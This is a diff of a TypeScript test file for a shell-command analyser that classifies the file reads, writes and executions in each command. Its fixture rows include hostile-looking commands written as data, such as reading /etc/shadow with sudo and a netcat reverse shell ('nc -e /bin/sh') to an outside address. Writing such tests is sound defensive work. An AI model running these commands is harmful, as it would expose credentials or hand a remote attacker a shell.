@@ -121,7 +121,7 @@ const COMMANDS: readonly Row[] = [
   ['cat a | (cd b; cat c) & cat d', ['read:a', 'enter:b', 'read:b/c', 'read:d']],
   // Commands around commands
   ['sudo -u postgres cat /etc/shadow', ['read:/etc/shadow'], 'sudo cat'],
-  ['env -i A=/x PATH=/bin node server.js', ['unknown:/x', 'unknown:/bin', 'execute:server.js'], 'env node'],
+  ['env -i A=/x PATH=/bin node server.js', ['unknown:/x', 'execute:server.js'], 'env node'],
   ['timeout -k 5 10s nice -n 5 cat slow.txt', ['read:slow.txt'], 'timeout nice cat'],
   ['find . -name "*.bak" -exec rm -f {} \\;', ['search:.'], 'find rm'],
   ['find . -type f -exec grep -l x {} + -fprint hits', ['search:.', 'write:hits'], 'find grep'],
@@ -202,6 +202,7 @@ const EXTRA: readonly Row[] = [
   ['cd src && make > ../log; cat x', ['enter:src', 'write:src/../log', 'read:src/x']],
   ['cd src && a < ../z | b; cat x', ['enter:src', 'read:src/../z', 'read:src/x'], 'cd a b cat'],
   ['cd src && cat <<EOF > ../y\n/etc\nEOF', ['enter:src', 'write:src/../y']],
+  ['git commit -m "$(cat <<\'EOF\'\nFix /etc/passwd (a/b)\nEOF\n)"', [], 'cat git'],
   ['nc -e /bin/sh 192.0.2.1 99', ['execute:/bin/sh']],
 ];
 
@@ -349,7 +350,7 @@ describe('the analyser', () => {
     expect(usesOf(analyser.analyse('cat a $X'))).toEqual(['read:a', 'unknown:$X ?']);
   });
 
-  it('takes well under a millisecond for a usual command', () => {
+  it('takes no more than a few milliseconds for a usual command, on a busy machine too', () => {
     for (const [command] of COMMANDS) analyser.analyse(command);
     const rounds = 5;
     const start = performance.now();
